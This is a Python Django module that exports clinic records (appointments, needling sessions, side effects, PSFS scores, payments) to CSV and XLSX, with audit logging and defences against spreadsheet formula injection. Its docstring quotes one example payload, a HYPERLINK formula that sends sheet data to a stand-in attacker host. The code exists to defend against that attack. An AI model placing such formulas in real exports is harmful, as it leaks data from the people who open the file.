"""Line-level exports: one small class per export, registered here; CSV streamed, XLSX built whole.

An export declares its key, name and columns, its queryset() (every row, one alias per column, in the
file's order) and where the one filter applies (time_field, therapist_field, location_field: the base
class's rows() filters the same way for every export). Both formats run the very same SQL: CSV wraps
it in PostgreSQL's `COPY (...) TO STDOUT`, the first day and then the rest of the range (windows(): the SQL
compiled once, each window only its bounds), and streams what the server sends in 64 KiB pieces (constant
memory, first bytes as soon as the first window is read); XLSX reads it through a server-side cursor
into openpyxl's write-only workbook, after a count that refuses more rows than a sheet holds.

Cells hold what people read, not internal codes: "Left", "Completed", "Yes"/"No" (issue 14 part 4). Each
export names its coded columns (code_labels(), yes_no) and the SELECT turns codes into labels with a CASE
whose constants are built once per export from the models' choices, never a query per row; with
codes=True (CSV `codes=1`) the codes are left as stored, for analysts. An XLSX adds a second sheet, "codes",
that lists every code of the file's columns beside its label.

Patients are identified by chart number; names are added only when an administrator asks (DESIGN.md:
the manager sees aggregates and line-level data, not identities). Every export is audited with its
filters and row count (Action.EXPORT).

No cell can attack the reader (CSV or formula injection): a spreadsheet runs a cell that starts with
=, +, -, @, a tab or a carriage return as a formula (a cancel reason `=HYPERLINK("http://evil.test/?"&A1)`
would send the sheet's data away when clicked). In CSV every text column is wrapped in the SQL itself
(csv_safe_sql: such a cell gets a leading apostrophe, defusedcsv's rule), so COPY streams it at full speed;
in XLSX such a cell is written as text with Excel's quote-prefix style, never as a formula.
"""

import tempfile
from dataclasses import replace
from datetime import datetime, timedelta
from functools import cached_property

from django.core.exceptions import PermissionDenied
from django.db import models, transaction
from django.db.models import Exists, F, Func, OuterRef, Value
from django.http import FileResponse, StreamingHttpResponse

from accounts.models import Role
from audit.models import Action
from audit.services import record
from clinic.replica import reading_connection as connection

from .filters import XLSX_ROW_LIMIT, ExportTooLarge

CHUNK_BYTES = 64 * 1024
# What makes a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_FIELDS = {"CharField", "TextField", "EmailField", "SlugField", "URLField"}
FETCH_ROWS = 5000
REGISTRY = {}
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def register(export_class):
    """Class decorator: make an export available under its key (the URL and the form use it)."""
    REGISTRY[export_class.key] = export_class()
    return export_class


def local_time(field):
    """A timestamp as the clinic's wall clock (no zone): what a spreadsheet shows and sorts."""
    from django.conf import settings

    return Func(Value(settings.TIME_ZONE), F(field), function="timezone", output_field=models.DateTimeField())


def sql_text(text):
    """A constant of ours as an SQL string literal (quotes doubled; % spelled chr(37), so the statement
    reads the same with and without parameters)."""
    return "'" + text.replace("'", "''").replace("%", "' || chr(37) || '") + "'"


def labelled_sql(column, labels):
    """SQL giving the label of a coded column; a code without a label (none today: the database checks
    the codes) is kept, neutralised like any text against formula injection."""
    branches = " ".join(f"WHEN {sql_text(code)} THEN {sql_text(label)}" for code, label in labels.items())
    return f"CASE {column} {branches} ELSE {csv_safe_sql(column)} END"


def yes_no_sql(column):
    return f"CASE WHEN {column} THEN 'Yes' WHEN NOT {column} THEN 'No' END"


YES_NO = {"t": "Yes", "f": "No"}


def short_label(choices):
    """{code: label} of a model's choices, each label cut at its colon ("Mild: short-lived ..." -> "Mild")."""
    return {code: label.partition(":")[0] for code, label in choices}


class Export:
    key = ""
    name = ""
    # [(alias in rows(), header)], in the order the file shows them.
    columns = []
    # Boolean columns, shown as Yes / No.
    yes_no = ()
    # Added after the chart number when an administrator asks for names: [(alias, header)].
    name_columns = [("given_name", "Given name"), ("family_name", "Family name")]
    patient_path = "patient__"
    # Where the one filter (reports/filters.py) applies, as lookup paths from the export's rows: the
    # moment in the date range, the therapist, the location.
    time_field = ""
    therapist_field = ""
    location_field = ""

    def queryset(self):
        """Every row of the export before the filter: a queryset annotated with every alias of `columns`,
        in the file's order."""
        raise NotImplementedError

    def rows(self, report_filter):
        """The filtered rows: those of queryset() in the date range, and of the therapist and the location
        when chosen."""
        queryset = self.queryset().filter(
            **{
                f"{self.time_field}__gte": report_filter.starts_at,
                f"{self.time_field}__lt": report_filter.ends_before,
            }
        )
        if report_filter.therapist is not None:
            queryset = queryset.filter(**{self.therapist_field: report_filter.therapist})
        if report_filter.location is not None:
            queryset = queryset.filter(**{self.location_field: report_filter.location})
        return queryset

    def choices(self):
        """{alias: {code: label}} of the coded columns (the models' choices)."""
        return {}

    @cached_property
    def code_labels(self):
        """choices(), built once per process (the registry holds one instance of each export)."""
        return self.choices()

    def codes_sheet(self, names=False):
        """[(header, code, label)] of every coded column of the file: the "codes" sheet of an XLSX."""
        rows = []
        for alias, header in self.layout(names):
            labels = YES_NO if alias in self.yes_no else self.code_labels.get(alias, {})
            rows.extend((header, code, label) for code, label in labels.items())
        return rows

    def layout(self, names):
        """[(alias, header)] of the file: with names right after the chart number when asked."""
        layout = []
        for alias, header in self.columns:
            layout.append((alias, header))
            if names and alias == "chart_number":
                layout.extend(self.name_columns)
        return layout

    def with_names(self, queryset):
        return queryset.annotate(
            given_name=F(f"{self.patient_path}given_name"), family_name=F(f"{self.patient_path}family_name")
        )

    def sql(self, report_filter, *, names=False, csv_safe=False, codes=False):
        """(sql, params, headers): one SELECT whose columns are exactly the headers, in order, coded columns
        as their labels (as stored with codes); with csv_safe, every text column neutralised against
        formula injection (csv_safe_sql)."""
        layout = self.layout(names)
        queryset = self.rows(report_filter)
        if names:
            queryset = self.with_names(queryset)
        values = queryset.values(*[alias for alias, _ in layout])
        inner, params = values.query.sql_with_params()
        quote = connection.ops.quote_name
        text = text_aliases(values, [alias for alias, _ in layout]) if csv_safe else set()

        def column(alias):
            if not codes and alias in self.yes_no:
                return yes_no_sql(quote(alias))
            if not codes and alias in self.code_labels:
                return labelled_sql(quote(alias), self.code_labels[alias])
            return csv_safe_sql(quote(alias)) if alias in text else quote(alias)

        outer = ", ".join(f"{column(alias)} AS {quote(header)}" for alias, header in layout)
        # Aliases and headers are the export class's own constants, quoted; values stay parameters.
        sql = f"SELECT {outer} FROM ({inner}) AS export_rows"  # noqa: S608
        return sql, params, [header for _, header in layout]

    def count(self, report_filter):
        return self.rows(report_filter).count()

    def filename(self, report_filter, extension):
        return f"{self.key}-{report_filter.start:%Y%m%d}-{report_filter.end:%Y%m%d}.{extension}"


def text_aliases(queryset, aliases):
    """The aliases of a values() queryset whose database type is text (where a formula can hide)."""
    query = queryset.query
    text = set()
    for alias in aliases:
        if alias in query.annotations:
            field = query.annotations[alias].output_field
        else:
            field = queryset.model._meta.get_field(alias)
        if field.get_internal_type() in TEXT_FIELDS:
            text.add(alias)
    return text


def csv_safe_sql(column):
    """SQL for a text column whose value starting with = + - @ tab or CR gets a leading apostrophe, which
    spreadsheets show as text and never run (defusedcsv's rule, done by PostgreSQL so COPY stays fast).
    ascii() reads the first character's code without making a substring: measured cheaper than left()
    (docs/benchmarks.md)."""
    return f"CASE WHEN ascii({column}) IN (9, 13, 43, 45, 61, 64) THEN chr(39) || {column} ELSE {column} END"


def xlsx_cell(sheet, value):
    """One XLSX cell: a datetime without zone (what a spreadsheet shows), and a string that a spreadsheet
    would read as a formula written as text with the quote-prefix style (so editing it keeps it text)."""
    from openpyxl.cell import WriteOnlyCell

    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell
    return value


def check_names_allowed(user, names):
    """Refuses patient names to anyone but an administrator (managers get chart numbers)."""
    if names and not user.has_role(Role.ADMIN):
        raise PermissionDenied("Only an administrator can export patient names; exports show chart numbers.")


def audit_detail(export, report_filter, file_format, names, outcome, codes=False):
    who = "patients by name and chart number" if names else "patients by chart number"
    if codes:
        who += "; codes"
    return f"{export.key} {file_format}: {report_filter.as_audit()}; {who}; {outcome}"


def windows(report_filter):
    """The date ranges the CSV is read in: the first day, then the rest of the range.

    One COPY over years of rows must sort them all before its first byte (seconds at benchmark size); a
    first window of one day sends the first bytes at once. Once they are out, the rate is what counts, and
    every further window is one more statement that reads the table again: the sessions table has no index
    on its start, so each window scanned all of it, and windows growing fourfold (6 statements a year)
    made the sessions export 27% slower than one COPY of the same rows (issue 17). So the rest of the
    range is one statement: two in all, whatever the range. Taken in order, they give the same rows in the
    same order as one COPY.
    """
    first = replace(report_filter, end=report_filter.start)
    yield first
    if report_filter.end > report_filter.start:
        yield replace(report_filter, start=report_filter.start + timedelta(days=1))


def window_params(params, whole, window):
    """The parameters of the SQL of `whole` for one of its windows: the range's two bounds replaced by
    the window's. The export's SQL is compiled once (the ORM's compiler costs more than a small window's
    rows); only its parameters change from window to window. Refuses SQL that does not carry both bounds
    as parameters, which no window could narrow."""
    bounds = {whole.starts_at: window.starts_at, whole.ends_before: window.ends_before}
    narrowed = [bounds.get(p, p) if isinstance(p, datetime) else p for p in params]
    found = {p for p in params if isinstance(p, datetime) and p in bounds}
    if len(found) != len(bounds):
        raise ValueError("The export's SQL does not take its date range as parameters.")
    return narrowed


def copy_chunks(statements, on_done):
    """Yield the CSV of each (sql, params, header) from COPY TO STDOUT in CHUNK_BYTES pieces, and call
    on_done(rows) at the end with the rows of all of them.

    PostgreSQL sends one message per row; gathering them keeps the WSGI server's writes few and large.
    """
    buffer = bytearray()
    rows = 0
    with connection.cursor() as wrapper:
        cursor = wrapper.cursor  # psycopg's own cursor: Django's wrapper has no copy()
        for sql, params, header in statements:
            statement = f"COPY ({sql}) TO STDOUT WITH (FORMAT csv, HEADER {'true' if header else 'false'})"
            with cursor.copy(statement, params or None) as copy:
                for data in copy:
                    buffer += data
                    if len(buffer) >= CHUNK_BYTES:
                        yield bytes(buffer)
                        buffer.clear()
            rows += cursor.rowcount
        if buffer:
            yield bytes(buffer)
    on_done(rows)


def stream_csv(export, report_filter, *, user, names=False, codes=False, request=None):
    """A StreamingHttpResponse of the export as CSV, audited when the stream ends.

    The row count is known only when PostgreSQL finishes, so the audit event is written then, with the
    count from COPY's command tag. A download the client abandons closes the generator: psycopg cancels
    the COPY, and the event records the export as stopped, with the rows sent so far (header excluded).
    Refuses names to anyone but an administrator.
    """
    check_names_allowed(user, names)
    sql, params, _ = export.sql(report_filter, names=names, csv_safe=True, codes=codes)
    statements = (
        (sql, window_params(params, report_filter, window), number == 0)
        for number, window in enumerate(windows(report_filter))
    )
    outcome = {}

    def finished(rows):
        outcome["rows"] = rows

    def generate():
        sent_lines = 0
        try:
            for chunk in copy_chunks(statements, finished):
                sent_lines += chunk.count(b"\n")
                yield chunk
        finally:
            if "rows" in outcome:
                result = f"{outcome['rows']} rows"
            else:
                result = f"stopped before the end: about {max(0, sent_lines - 1)} rows sent; incomplete"
            record(
                Action.EXPORT,
                request=request,
                user=user,
                object_type="reports.export",
                object_id=export.key,
                detail=audit_detail(export, report_filter, "csv", names, result, codes),
            )

    response = StreamingHttpResponse(generate(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{export.filename(report_filter, "csv")}"'
    response["X-Accel-Buffering"] = "no"  # let a proxy pass the stream on as it comes
    response["Cache-Control"] = "no-store"
    return response


def build_xlsx(export, report_filter, *, user, names=False, codes=False, request=None, limit=XLSX_ROW_LIMIT):
    """(file, rows): the whole workbook written to a temporary file, audited, ready to send: the rows on
    the first sheet (labels, or codes with `codes`), every code of its columns and its label on "codes".

    Refuses, before writing anything, an export of more rows than `limit` (XLSX_ROW_LIMIT, well inside a
    sheet's 1,048,575 data rows) with ExportTooLarge, and names to anyone but an administrator. If the
    rows grow past the limit while the workbook is written, it is thrown away and refused the same way:
    never a truncated file.
    """
    from openpyxl import Workbook

    check_names_allowed(user, names)
    total = export.count(report_filter)
    if total > limit:
        raise ExportTooLarge(too_large_message(total, limit))
    sql, params, headers = export.sql(report_filter, names=names, codes=codes)
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(export.name[:31])
    sheet.append(headers)
    rows = 0
    connection.ensure_connection()
    reading = connection.alias  # the replica while it is fresh (clinic/replica.py), else the primary
    cursor_name = f"export_{export.key}"
    with transaction.atomic(using=reading), connection.connection.cursor(name=cursor_name) as cursor:
        cursor.itersize = FETCH_ROWS
        cursor.execute(sql, params)
        for row in cursor:
            rows += 1
            if rows > limit:
                raise ExportTooLarge(too_large_message(rows, limit))
            sheet.append([xlsx_cell(sheet, cell) for cell in row])
    legend = workbook.create_sheet("codes")
    legend.append(["Column", "Code", "Label"])
    for line in export.codes_sheet(names):
        legend.append(list(line))
    file = tempfile.TemporaryFile()  # noqa: SIM115 - FileResponse closes it once sent
    workbook.save(file)
    file.seek(0)
    record(
        Action.EXPORT,
        request=request,
        user=user,
        object_type="reports.export",
        object_id=export.key,
        detail=audit_detail(export, report_filter, "xlsx", names, f"{rows} rows", codes),
    )
    return file, rows


def too_large_message(rows, limit):
    return (
        f"This export has {rows:,} rows, more than the {limit:,} an XLSX download can hold. "
        "Choose a shorter date range, or download CSV, which has no row limit."
    )


def xlsx_response(export, report_filter, *, user, names=False, codes=False, request=None):
    file, _ = build_xlsx(export, report_filter, user=user, names=names, codes=codes, request=request)
    return FileResponse(
        file, as_attachment=True, filename=export.filename(report_filter, "xlsx"), content_type=XLSX_TYPE
    )


# --- the exports the manager downloads -----------------------------------------------------------------
@register
class AppointmentExport(Export):
    key = "appointments"
    name = "Appointments"
    columns = [
        ("id", "Appointment"),
        ("chart_number", "Chart number"),
        ("local_start", "Start"),
        ("local_end", "End"),
        ("therapist_name", "Therapist"),
        ("type_name", "Type"),
        ("location_name", "Location"),
        ("status", "Status"),
        ("cancel_reason", "Cancel reason"),
    ]

    time_field, therapist_field, location_field = "start", "therapist", "location"

    def queryset(self):
        from appointments.models import Appointment

        return Appointment.objects.annotate(
            chart_number=F("patient__chart_number"),
            local_start=local_time("start"),
            local_end=local_time("end"),
            therapist_name=F("therapist__full_name"),
            type_name=F("type__name"),
            location_name=F("location__name"),
        ).order_by("start", "id")

    def choices(self):
        from appointments.models import Status

        return {"status": dict(Status.choices)}


class SessionRowsExport(Export):
    """An export of needling sessions, or of rows under them (points, side effects, with session_path
    "session__"): filtered by the session's start, clinician and location, each row with its patient's
    chart number and its session's start, in session order."""

    session_path = ""
    # What orders the rows of one session, after the session's start.
    ordering = ("id",)

    @property
    def patient_path(self):
        return f"{self.session_path}patient__"

    @property
    def time_field(self):
        return f"{self.session_path}started_at"

    @property
    def therapist_field(self):
        return f"{self.session_path}clinician"

    @property
    def location_field(self):
        return f"{self.session_path}appointment__location"

    def source(self):
        """The rows before annotations and filter."""
        raise NotImplementedError

    def annotations(self):
        """{alias: expression} of the export's own columns."""
        return {}

    def queryset(self):
        path = self.session_path
        return (
            self.source()
            .annotate(
                chart_number=F(f"{path}patient__chart_number"),
                local_started=local_time(f"{path}started_at"),
                **self.annotations(),
            )
            .order_by(f"{path}started_at", *self.ordering)
        )


@register
class SessionExport(SessionRowsExport):
    key = "sessions"
    name = "Needling sessions"
    columns = [
        ("id", "Session"),
        ("chart_number", "Chart number"),
        ("local_started", "Started"),
        ("clinician_name", "Clinician"),
        ("pain_before", "Pain before (NRS)"),
        ("pain_after", "Pain after (NRS)"),
        ("needles_in", "Needles in"),
        ("needles_out", "Needles out"),
        ("local_signed", "Signed"),
        ("review_on", "Plan review"),
    ]

    def source(self):
        from treatments.models import NeedlingSession

        return NeedlingSession.objects.all()

    def annotations(self):
        return {"clinician_name": F("clinician__full_name"), "local_signed": local_time("signed_at")}


@register
class NeedlePointExport(SessionRowsExport):
    key = "needle_points"
    name = "Needle points"
    session_path = "session__"
    ordering = ("session_id", "order")
    columns = [
        ("session_id", "Session"),
        ("chart_number", "Chart number"),
        ("local_started", "Session started"),
        ("order", "Point"),
        ("muscle_name", "Muscle"),
        ("body_region", "Body region"),
        ("risk_region", "Risk region"),
        ("side", "Side"),
        ("segment", "Segment"),
        ("gauge", "Needle gauge (mm)"),
        ("length", "Needle length (mm)"),
        ("depth_mm", "Depth (mm)"),
        ("insertions", "Insertions"),
        ("technique", "Technique"),
        ("twitch_response", "Twitch response"),
        ("patient_response", "Patient response"),
    ]

    def choices(self):
        from treatments.models import BodyRegion, PatientResponse, RiskRegion, Side, Technique, Twitch

        return {
            "body_region": dict(BodyRegion.choices),
            "risk_region": dict(RiskRegion.choices),
            "side": dict(Side.choices),
            "technique": dict(Technique.choices),
            "twitch_response": dict(Twitch.choices),
            "patient_response": dict(PatientResponse.choices),
        }

    def source(self):
        from treatments.models import NeedlePoint, PointRemoval

        # Needled points only: a point removed as entered in error was not needled. NOT EXISTS, not a left
        # join: the planner estimates an outer join's IS NULL at a few rows and then reads every point of
        # the table for each window (measured: 4 s a window of 13,000 points at the quick benchmark size).
        return NeedlePoint.objects.filter(~Exists(PointRemoval.objects.filter(point_id=OuterRef("pk"))))

    def annotations(self):
        return {
            "muscle_name": F("muscle__name"),
            "body_region": F("muscle__body_region"),
            "risk_region": F("muscle__risk_region"),
            "gauge": F("needle_size__gauge_mm"),
            "length": F("needle_size__length_mm"),
        }


@register
class SideEffectExport(SessionRowsExport):
    key = "side_effects"
    name = "Side effects"
    session_path = "session__"
    ordering = ("session_id", "id")
    columns = [
        ("id", "Side effect"),
        ("session_id", "Session"),
        ("chart_number", "Chart number"),
        ("local_started", "Session started"),
        ("type", "Type"),
        ("severity", "Severity"),
        ("onset", "Onset"),
        ("duration", "Duration"),
        ("action_taken", "Action taken"),
        ("resolved", "Resolved"),
    ]
    yes_no = ("resolved",)

    def choices(self):
        from treatments.models import Onset, Severity, SideEffectType

        return {
            "type": dict(SideEffectType.choices),
            "severity": short_label(Severity.choices),
            "onset": dict(Onset.choices),
        }

    def source(self):
        from treatments.models import SideEffect

        return SideEffect.objects.all()


@register
class PSFSExport(Export):
    """The Patient-Specific Functional Scale: one row per activity scored, with the scoring's PSFS score
    (the mean), so a spreadsheet can trend either. Filtered by when it was scored and who scored it; the
    location filter keeps the scorings made at a session of that location (a scoring between sessions
    has no location)."""

    key = "psfs"
    name = "Patient-Specific Functional Scale"
    patient_path = "measure__patient__"
    columns = [
        ("measure_id", "PSFS scoring"),
        ("chart_number", "Chart number"),
        ("local_scored", "Scored"),
        ("session_id", "Session"),
        ("clinician_name", "Clinician"),
        ("psfs_score", "PSFS score"),
        ("order", "Activity number"),
        ("activity", "Activity"),
        ("score", "Activity score (0-10)"),
    ]

    time_field = "measure__scored_at"
    therapist_field = "measure__recorded_by"
    location_field = "measure__session__appointment__location"

    def queryset(self):
        from treatments.models import OutcomeItem, OutcomeKind

        return (
            OutcomeItem.objects.filter(measure__kind=OutcomeKind.PSFS)
            .annotate(
                chart_number=F("measure__patient__chart_number"),
                local_scored=local_time("measure__scored_at"),
                session_id=F("measure__session_id"),
                clinician_name=F("measure__recorded_by__full_name"),
                psfs_score=F("measure__score"),
            )
            .order_by("measure__scored_at", "measure_id", "order")
        )


@register
class PaymentExport(Export):
    """Fees taken and refunds given (issue 15 part 4b): one row per receipt, filtered by when it was
    recorded, the visit's physiotherapist and location. A refund's amount is negative and names the
    receipt it refunds, so the column sums to what the clinic kept."""

    key = "payments"
    name = "Payments and refunds"
    columns = [
        ("receipt_number", "Receipt"),
        ("local_recorded", "Recorded"),
        ("chart_number", "Chart number"),
        ("local_service", "Date of service"),
        ("service", "Service"),
        ("clinician_name", "Clinician"),
        ("method", "Method"),
        ("kind", "Kind"),
        ("amount", "Amount (CAD)"),
        ("refund_of_receipt", "Refund of receipt"),
    ]
    patient_path = "appointment__patient__"

    time_field = "recorded_at"
    therapist_field = "appointment__therapist"
    location_field = "appointment__location"

    def queryset(self):
        from appointments.models import Payment

        return Payment.objects.annotate(
            local_recorded=local_time("recorded_at"),
            chart_number=F("appointment__patient__chart_number"),
            local_service=local_time("appointment__start"),
            service=F("appointment__type__name"),
            clinician_name=F("appointment__therapist__full_name"),
            refund_of_receipt=F("refund_of__receipt_number"),
        ).order_by("receipt_number")

    def choices(self):
        from appointments.models import PaymentKind, PaymentMethod

        return {"method": dict(PaymentMethod.choices), "kind": dict(PaymentKind.choices)}
